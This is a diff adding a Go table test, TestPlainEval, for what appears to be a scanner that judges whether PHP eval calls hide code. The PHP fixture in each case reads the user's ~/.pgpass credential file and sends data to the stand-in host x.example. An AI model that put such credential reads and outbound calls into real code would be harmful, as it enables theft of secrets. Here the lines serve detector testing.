@@ -144,3 +144,15 @@ func TestTables(t *testing.T) {
 		one.Compiled()
 	}
 }
+
+// TestPlainEval: a text that calls nothing hides nothing when it is evaluated.
+func TestPlainEval(t *testing.T) {
+	t.Parallel()
+	for code, want := range map[string]bool{"eval('return 1;');": true, "eval($code);": false, "eval('f($x);');": false, "eval(\"return $x;\");": false} {
+		got := Find([]Text{text("a.php", "<?php\n$p = file(getenv('HOME') . '/.pgpass');\n$n = str_word_count(file_get_contents('notes.txt'));\nfile_get_contents('https://x.example/?n=' . $n);\n"+code+"\n")}, nil, nil)
+		apart := len(got) == 0 || got[0].Apart
+		if apart != want {
+			t.Errorf("%s: %+v, want apart %t", code, got, want)
+		}
+	}
+}
